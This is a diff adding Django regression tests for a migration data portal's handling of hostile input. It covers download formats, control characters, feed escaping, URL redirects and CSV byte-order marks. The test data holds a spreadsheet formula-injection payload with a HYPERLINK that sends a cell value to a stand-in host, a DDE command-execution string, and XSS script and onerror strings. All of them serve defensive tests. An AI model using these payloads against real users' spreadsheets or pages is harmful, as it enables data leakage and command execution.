@@ -1,0 +1,253 @@
+"""Hostile and messy input on the public side (issue 14): one regression test per example of the issue.
+
+Unknown download formats, control characters pasted from Word, formula injection in spreadsheets,
+markup in feed summaries, URLs people type and tools produce, CSV for Excel users.
+"""
+
+import csv
+import importlib
+import io
+import json
+import xml.etree.ElementTree as ET
+import zipfile
+
+import openpyxl
+import pytest
+from django.apps import apps
+from django.contrib.auth.models import Group, User
+from django.templatetags.static import static
+from django.test import Client
+
+from migration.models import Department
+from portal.exports import ExcelCSV
+from practices.admin import PracticeResource
+from practices.models import Practice
+from tests.html import form_data
+
+pytestmark = pytest.mark.django_db
+
+HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2,"Ver ficha")'
+FEEDS = ["/practicas/feed/rss/", "/practicas/feed/atom/", "/en/practicas/feed/rss/", "/en/practicas/feed/atom/"]
+LISTS = ["/practicas/", "/migracion/"]
+
+
+def csv_rows(content: bytes) -> list[dict]:
+    assert content.startswith("\ufeff".encode()), "CSV without a byte-order mark"
+    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+def sheet_rows(content: bytes) -> list[list]:
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a formula in the XLSX"
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def sierra_sur() -> Practice:
+    return Practice.objects.get(slug="sierra-sur")
+
+
+def save_validated(instance) -> None:
+    instance.full_clean()
+    instance.save()
+
+
+# 2. Download formats nobody offered ---------------------------------------------------------------------------
+@pytest.mark.parametrize("url", LISTS)
+@pytest.mark.parametrize("asked", ["ods", "xls", "yaml", "latex", "tsv", "html", "", "CSV"])
+def test_a_format_the_page_does_not_offer_is_a_400_listing_the_offered_ones(client, url, asked):
+    response = client.get(f"{url}?descargar={asked}")
+    assert response.status_code == 400
+    assert response["Content-Type"].startswith("text/html")
+    html = response.content.decode()
+    for offered in ("CSV", "JSON", "XLSX"):
+        assert f"descargar={offered.lower()}" in html and f">{offered}</a>" in html
+
+
+@pytest.mark.parametrize("url", LISTS)
+@pytest.mark.parametrize("offered", ["csv", "json", "xlsx"])
+def test_the_offered_formats_download(client, url, offered):
+    response = client.get(f"{url}?descargar={offered}")
+    assert response.status_code == 200
+    assert "attachment" in response["Content-Disposition"]
+
+
+# 3. Control characters in stored text ------------------------------------------------------------------------
+def test_a_summary_pasted_from_word_loses_its_manual_line_break_at_input(client):
+    practice = sierra_sur()
+    practice.summary = "Primera línea\x0bsegunda línea\x07."
+    save_validated(practice)
+    assert Practice.objects.get(pk=practice.pk).summary == "Primera línea\nsegunda línea."
+
+
+def test_feeds_and_spreadsheets_stay_valid_whatever_is_stored(client):
+    # Written around model validation (an old row, a raw import): the writers still produce valid files.
+    Practice.objects.filter(slug="sierra-sur").update(summary="Uno\x0bdos\x00", title="Sierra Sur\x1f")
+    for url in FEEDS:
+        response = client.get(url)
+        assert response.status_code == 200, url
+        ET.fromstring(response.content)  # noqa: S314 (our own feed): well-formed
+    rows = sheet_rows(client.get("/practicas/?descargar=xlsx").content)
+    assert "Sierra Sur" in [row[0] for row in rows]
+    archive = zipfile.ZipFile(io.BytesIO(client.get("/datos/portal-migracion-datos.zip").content))
+    practices = csv_rows(archive.read("practicas.csv"))
+    assert next(row for row in practices if row["slug"] == "sierra-sur")["resumen"] == "Uno\ndos"
+
+
+def test_the_data_migration_cleans_existing_rows():
+    Practice.objects.filter(slug="sierra-sur").update(summary="Uno\x0bdos\x00")
+    Department.objects.filter(slug="lima").update(name="Lima\x08")
+    for module in ("practices.migrations.0005_plain_text", "migration.migrations.0003_plain_text"):
+        importlib.import_module(module).forwards(apps, None)
+    assert sierra_sur().summary == "Uno\ndos"
+    assert Department.objects.get(slug="lima").name == "Lima"
+
+
+# 4. Spreadsheet formula injection ----------------------------------------------------------------------------
+@pytest.fixture
+def formula_title():
+    practice = sierra_sur()
+    practice.title = HYPERLINK
+    practice.programme = "@SUM(1+1)*cmd|' /C calc'!A0"
+    save_validated(practice)
+    return practice
+
+
+def test_a_formula_title_is_text_in_the_xlsx_and_csv_downloads(client, formula_title):
+    rows = sheet_rows(client.get("/practicas/?descargar=xlsx").content)
+    assert "'" + HYPERLINK in [row[0] for row in rows]
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [row[5] for row in rows]
+    row = next(
+        row for row in csv_rows(client.get("/practicas/?descargar=csv").content) if "HYPERLINK" in row["Práctica"]
+    )
+    assert row["Práctica"] == "'" + HYPERLINK
+    # JSON is data, not a spreadsheet: the title as written.
+    assert HYPERLINK in [item["Práctica"] for item in json.loads(client.get("/practicas/?descargar=json").content)]
+
+
+def test_a_formula_title_is_text_in_the_zip(client, formula_title):
+    archive = zipfile.ZipFile(io.BytesIO(client.get("/datos/portal-migracion-datos.zip").content))
+    row = next(row for row in csv_rows(archive.read("practicas.csv")) if row["slug"] == "sierra-sur")
+    assert row["titulo"] == "'" + HYPERLINK
+
+
+def test_a_formula_title_is_text_in_the_admin_export_and_comes_back_as_written(formula_title):
+    editor = User.objects.create_user("rosa", password="no-se-usa", is_staff=True)
+    editor.groups.add(Group.objects.get(name="Editores"))
+    client = Client()
+    client.force_login(editor)
+    url = "/admin/practices/practice/export/"
+    page = client.get(url)
+    data = form_data(page, "form:has(#id_format)")
+    formats = {option.text.strip(): option["value"] for option in _soup(page).select("#id_format option")}
+    assert set(formats) - {"---"} == {"csv", "xlsx"}
+    for name, read in (("csv", csv_rows), ("xlsx", _sheet_dicts)):
+        response = client.post(url, {**data, "format": formats[name]})
+        row = next(row for row in read(response.content) if row["slug"] == "sierra-sur")
+        assert row["titulo"] == "'" + HYPERLINK, name
+    # Importing the exported file gives the title back without the apostrophe.
+    dataset = PracticeResource().export()
+    assert ExcelCSV().export_data(dataset).startswith("\ufeff")
+    result = PracticeResource().import_data(dataset, dry_run=False)
+    assert not result.has_errors() and not result.has_validation_errors()
+    assert sierra_sur().title == HYPERLINK
+
+
+def _soup(response):
+    from bs4 import BeautifulSoup
+
+    return BeautifulSoup(response.content, "html.parser")
+
+
+def _sheet_dicts(content: bytes) -> list[dict]:
+    header, *rows = sheet_rows(content)
+    return [dict(zip(header, row, strict=True)) for row in rows]
+
+
+def test_cajamarcas_negative_saldo_stays_a_number_in_every_format(client):
+    rows = csv_rows(client.get("/migracion/?descargar=csv").content)
+    assert next(row for row in rows if row["Departamento"] == "Cajamarca")["Saldo migratorio"] == "-531984"
+    sheet = sheet_rows(client.get("/migracion/?descargar=xlsx").content)
+    column = sheet[0].index("Saldo migratorio")
+    assert next(row for row in sheet if row[0] == "Cajamarca")[column] == -531984
+    data = json.loads(client.get("/migracion/?descargar=json").content)
+    assert next(row for row in data if row["Departamento"] == "Cajamarca")["Saldo migratorio"] == -531984
+    archive = zipfile.ZipFile(io.BytesIO(client.get("/datos/portal-migracion-datos.zip").content))
+    figures = csv_rows(archive.read("departamentos.csv"))
+    assert next(row for row in figures if row["departamento"] == "Cajamarca")["saldo_migratorio"] == "-531984"
+
+
+# 5. Feeds that call plain text HTML --------------------------------------------------------------------------
+@pytest.mark.parametrize("url", FEEDS)
+def test_markup_typed_in_a_summary_reaches_feed_readers_as_text(client, url):
+    practice = sierra_sur()
+    practice.summary = '<script>alert(1)</script> <img src=x onerror="alert(2)"> & más'
+    save_validated(practice)
+    root = ET.fromstring(client.get(url).content)  # noqa: S314 (our own feed)
+    atom = "{http://www.w3.org/2005/Atom}"
+    summaries = [element for element in root.iter() if element.tag in ("description", f"{atom}summary")]
+    summary = next(element for element in summaries if "alert(1)" in (element.text or ""))
+    # The declared type is HTML: what a reader renders as HTML is the text the editor typed.
+    assert summary.get("type") in (None, "html")
+    assert summary.text == (
+        "&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=&quot;alert(2)&quot;&gt; &amp; más"
+    )
+
+
+# 8. URLs people type and tools produce -----------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("url", "location"),
+    [
+        ("/es/migracion/", "/migracion/"),
+        ("/es/", "/"),
+        ("/es", "/"),
+        ("/es/practicas/?departamento=apurimac", "/practicas/?departamento=apurimac"),
+        ("/es//example.invalid/", "/example.invalid/"),  # never another site
+        ("/api/v1/practices/", "/api/v1/practices"),
+        ("/api/v1/departments/lima/?edicion=2007", "/api/v1/departments/lima?edicion=2007"),
+        ("/api/v1/", "/api/v1/docs"),
+        ("/api/v1", "/api/v1/docs"),
+        ("/api/", "/api/v1/docs"),
+    ],
+)
+def test_urls_people_type_lead_to_the_canonical_form(client, url, location):
+    response = client.get(url)
+    assert response.status_code in (301, 302)
+    assert response["Location"] == location
+    if "invalid" not in url:
+        assert client.get(url, follow=True).status_code == 200
+
+
+@pytest.mark.parametrize("url", ["/api/v1/nope", "/api/v1/nope/", "/api/v2/practices", "/api/v1/departments/nope"])
+def test_unknown_api_urls_are_json_404s(client, url):
+    response = client.get(url)
+    assert response.status_code == 404
+    assert response["Content-Type"].startswith("application/json")
+    assert response.json()["detail"]
+
+
+@pytest.mark.parametrize(("byte_range", "expected"), [("bytes=0-0", "first"), ("bytes=-1", "last"), ("bytes=0-1", 2)])
+def test_a_one_byte_range_of_a_static_file_is_a_206(client, byte_range, expected):
+    url = static("css/portal.css")
+    whole = b"".join(client.get(url).streaming_content)
+    response = client.get(url, HTTP_RANGE=byte_range)
+    assert response.status_code == 206
+    body = b"".join(response.streaming_content)
+    if expected == "first":
+        assert body == whole[:1] and response["Content-Range"] == f"bytes 0-0/{len(whole)}"
+    elif expected == "last":
+        assert body == whole[-1:]
+    else:
+        assert body == whole[:2]
+
+
+# 9. CSV for spreadsheet users --------------------------------------------------------------------------------
+def test_csv_files_carry_a_byte_order_mark_and_the_data_dictionary_says_so(client):
+    for url in ("/migracion/?descargar=csv", "/practicas/?descargar=csv"):
+        assert client.get(url).content.startswith(
+            b"\xef\xbb\xbfDepartamento" if "migracion" in url else b"\xef\xbb\xbf"
+        )
+    archive = zipfile.ZipFile(io.BytesIO(client.get("/datos/portal-migracion-datos.zip").content))
+    for name in ("departamentos.csv", "practicas.csv", "practicas_departamentos.csv", "cifras_clave.csv"):
+        assert archive.read(name).startswith(b"\xef\xbb\xbf"), name
+    assert "marca de orden de bytes (BOM)" in archive.read("LEEME.txt").decode()
+    assert "marca de orden de bytes (BOM)" in client.get("/datos/").content.decode()
